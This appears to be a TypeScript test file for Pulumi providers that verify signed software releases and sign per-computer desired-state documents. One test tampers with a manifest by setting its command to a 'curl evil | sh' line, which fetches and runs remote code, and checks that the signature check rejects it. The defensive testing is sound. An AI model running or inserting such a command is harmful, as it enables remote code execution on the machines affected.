/**
 * The SoftwareRelease and DesiredState providers as Pulumi ships them (serialised closures loaded
 * from a directory with no project files), and the signing the DesiredState provider does. Writing
 * to etcd is exercised in the lab tier.
 */
import { strict as assert } from "node:assert";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import {
  desiredStateProvider,
  signedDocumentFor,
  type DesiredStateProps,
} from "../../../components/desired-state/desiredState";
import {
  softwareReleaseProvider,
  type SoftwareReleaseProps,
} from "../../../components/release/softwareRelease";
import { shipped } from "../../helpers/shipped-provider";
import type { InstanceSpec } from "../../../lib/contracts/resources";
import { readStackFile } from "../../../lib/fleet";
import * as pki from "../../../lib/pki";
import { verifyDesiredState } from "../../../lib/desired-state";
import { manifestDigest, type SignedRelease } from "../../../lib/release";
import { makeHierarchy } from "../release/fixtures";

const ROOT = join(__dirname, "../../..");

const exampleRoot = () =>
  (
    readStackFile(join(ROOT, "stacks/Pulumi.global.yaml")).values["zeroroot:global"] as {
      rootCa: { certificate: string };
    }
  ).rootCa.certificate;

function releaseProps(signed: SignedRelease, root: string): SoftwareReleaseProps {
  return {
    name: signed.manifest.name,
    version: signed.manifest.version,
    manifestDigest: manifestDigest(signed.manifest),
    signerCertificatePem: signed.signature.certificates[0],
    signature: signed.signature.value,
    manifest: signed.manifest,
    signatureAlgorithm: signed.signature.algorithm,
    signerChainCertificates: signed.signature.certificates.slice(1),
    rootCertificatePem: root,
    controlPlaneEndpoints: ["https://etcd.dc1.zeroroot.example:2379"],
    controlPlaneTimeoutSeconds: 1,
  };
}

const instance = (over: Partial<InstanceSpec> = {}): InstanceSpec => ({
  name: "postgresql",
  release: { name: "postgresql", version: "15.8.0", manifestDigest: `sha256:${"a".repeat(64)}` },
  partition: { user: "zr-p001", uid: 2101 },
  programs: [
    {
      name: "postgres",
      command: "/usr/bin/postgres",
      user: "zr-p001",
      uid: 2101,
      capabilities: [],
      noNewPrivileges: true,
    },
  ],
  endpoints: [{ port: 5432, protocol: "tcp", tls: true, requireClientCertificate: true }],
  holdsData: true,
  minimumPersistenceSeconds: 2_592_000,
  parameters: {},
  ...over,
});

const stateProps = (instances: InstanceSpec[]): DesiredStateProps => ({
  computerId: "dc1-s01",
  dataCenter: "dc1",
  instances,
  validitySeconds: 3600,
  controlPlaneEndpoints: ["https://etcd.dc1.zeroroot.example:2379"],
  rootCertificatePem: "-----BEGIN CERTIFICATE-----\nx\n-----END CERTIFICATE-----\n",
  controlPlaneTimeoutSeconds: 1,
});

describe("SoftwareRelease provider, serialised", function () {
  this.timeout(60_000);
  const signed = JSON.parse(
    readFileSync(join(ROOT, "releases/postgresql-15.8.0.signed.json"), "utf8"),
  ) as SignedRelease;

  it("accepts the example release against the example offline root", async () => {
    const p = await shipped(softwareReleaseProvider);
    const r = await p.check!({}, releaseProps(signed, exampleRoot()));
    assert.equal(r.failures, undefined);
  });

  it("refuses a release whose manifest was changed after signing", async () => {
    const p = await shipped(softwareReleaseProvider);
    const tampered = structuredClone(signed) as {
      manifest: { programs: { command: string }[] };
    } & SignedRelease;
    tampered.manifest.programs[0].command = "/bin/sh -c 'curl evil | sh'";
    const r = await p.check!(
      {},
      { ...releaseProps(tampered, exampleRoot()), manifestDigest: manifestDigest(signed.manifest) },
    );
    assert.match(String(r.failures?.[0].reason), /bad-signature/);
  });

  it("refuses a release that does not chain to the stack's root", async () => {
    const p = await shipped(softwareReleaseProvider);
    const foreign = pki.createRootCa({ commonName: "foreign root" }).certificatePem;
    const r = await p.check!({}, releaseProps(signed, foreign));
    assert.match(String(r.failures?.[0].reason), /untrusted-signer/);
  });

  it("replaces the resource on a new version and refuses a version reused with another manifest", async () => {
    const p = await shipped(softwareReleaseProvider);
    const olds = releaseProps(signed, exampleRoot());
    const d = await p.diff!("postgresql@15.8.0", olds, { ...olds, version: "15.9.0" });
    assert.deepEqual(d.replaces, ["version"]);
    assert.equal((await p.diff!("postgresql@15.8.0", olds, { ...olds })).changes, false);
    await assert.rejects(
      p.update!("x", olds, { ...olds, manifestDigest: `sha256:${"b".repeat(64)}` }),
      /new version/,
    );
  });
});

describe("DesiredState provider, serialised", function () {
  this.timeout(60_000);

  it("refuses at check a desired state no node would accept: an instance running as root", async () => {
    const p = await shipped(desiredStateProvider);
    const root = instance({
      partition: { user: "root", uid: 0 },
      programs: [
        {
          name: "postgres",
          command: "/usr/bin/postgres",
          user: "root",
          uid: 0,
          capabilities: [],
          noNewPrivileges: true,
        },
      ],
    });
    const r = await p.check!({}, stateProps([root]));
    assert.match(String(r.failures?.[0].reason), /uid|root/);
    assert.equal((await p.check!({}, stateProps([instance()]))).failures, undefined);
  });

  it("diffs: a change of instances, and renewal once half the validity has passed", async () => {
    const p = await shipped(desiredStateProvider);
    const now = Date.now();
    const outs = (issuedMsAgo: number) => ({
      ...stateProps([instance()]),
      version: 3,
      digest: "sha256:x",
      issuedAt: new Date(now - issuedMsAgo).toISOString(),
      expiresAt: new Date(now - issuedMsAgo + 3_600_000).toISOString(),
      signer: "",
    });
    assert.equal((await p.diff!("dc1-s01", outs(60_000), stateProps([instance()]))).changes, false);
    assert.equal(
      (await p.diff!("dc1-s01", outs(60_000), stateProps([instance({ parameters: { x: "1" } })]))).changes,
      true,
    );
    assert.equal(
      (await p.diff!("dc1-s01", outs(2_000_000), stateProps([instance()]))).changes,
      true,
      "renewal",
    );
    const moved = await p.diff!("dc1-s01", outs(60_000), {
      ...stateProps([instance()]),
      computerId: "dc1-s02",
    });
    assert.deepEqual(moved.replaces, ["computerId"]);
  });

  it("fails create with the variable to set when the operator's identity files are missing", async () => {
    const p = await shipped(desiredStateProvider);
    const saved = { ...process.env };
    process.env.ZEROROOT_OPERATOR_CERT = "/nonexistent/operator.crt";
    try {
      await assert.rejects(p.create!(stateProps([instance()])), /ZEROROOT_OPERATOR_CERT/);
    } finally {
      process.env = saved;
    }
  });
});

describe("desired-state signing at deploy time", () => {
  it("signs the computer's document with the signer named by the environment; a node verifies it", () => {
    const h = makeHierarchy();
    const dir = mkdtempSync(join(tmpdir(), "zr-signer-"));
    writeFileSync(join(dir, "s.crt"), h.controlPlane.certificatePem + h.issuingPem);
    writeFileSync(join(dir, "s.key"), pki.exportPkcs8(h.controlPlane.privateKey));
    const saved = { ...process.env };
    process.env.ZEROROOT_STATE_SIGNER_CERT = join(dir, "s.crt");
    process.env.ZEROROOT_STATE_SIGNER_KEY = join(dir, "s.key");
    try {
      const signed = signedDocumentFor(stateProps([instance()]), 4);
      assert.equal(signed.document.version, 4);
      assert.doesNotMatch(JSON.stringify(signed), /PRIVATE KEY/);
      const v = verifyDesiredState(signed, {
        root: h.rootPem,
        authorisedSigners: { signers: [{ commonName: "control-plane-dc1", desiredState: ["dc1"] }] },
        computerId: "dc1-s01",
        lastAppliedVersion: 3,
      });
      assert.equal(v.ok, true, JSON.stringify(v));
    } finally {
      process.env = saved;
    }
  });
});
